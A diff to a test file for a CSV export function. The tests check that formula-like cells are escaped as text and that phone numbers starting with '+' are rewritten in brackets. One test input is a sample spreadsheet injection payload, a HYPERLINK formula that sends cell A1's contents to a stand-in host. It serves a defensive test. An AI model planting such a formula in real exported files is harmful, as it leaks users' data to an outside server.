@@ -29,7 +29,9 @@ it('keeps quotes, separators and line breaks in their cell', () => {
 
 it.each([
   '=HYPERLINK("https://malo.test?"&A1)',
-  '+34 600 000 000',
+  '+34 600+1',
+  '+34 =1+1',
+  '+34',
   '-2+3',
   '@SUM(A1)',
   '\t=1+1',
@@ -46,6 +48,16 @@ it.each([
   '−1',
 ])('writes %j so that it is read as text and not reckoned', (text) => {
   expect(cellsOf(csvText([[text]]))).toEqual([[`'${text}`]]);
+});
+
+it.each([
+  ['+34 600 000 000', '(+34) 600 000 000'],
+  ['+34600000000', '(+34) 600000000'],
+  ['+34-600.000.000', '(+34) 600.000.000'],
+  ['+1 555 0100', '(+1) 555 0100'],
+  ['+376 712 345', '(+376) 712 345'],
+])('writes the telephone number %s as %s, which no program takes for a sum', (phone, cell) => {
+  expect(cellsOf(csvText([[phone]]))).toEqual([[cell]]);
 });
 
 it.each(['Ana', '3 + 4', 'a=b', 'correo@ejemplo.test', '', '¿Qué?'])('leaves %j as it is', (text) => {
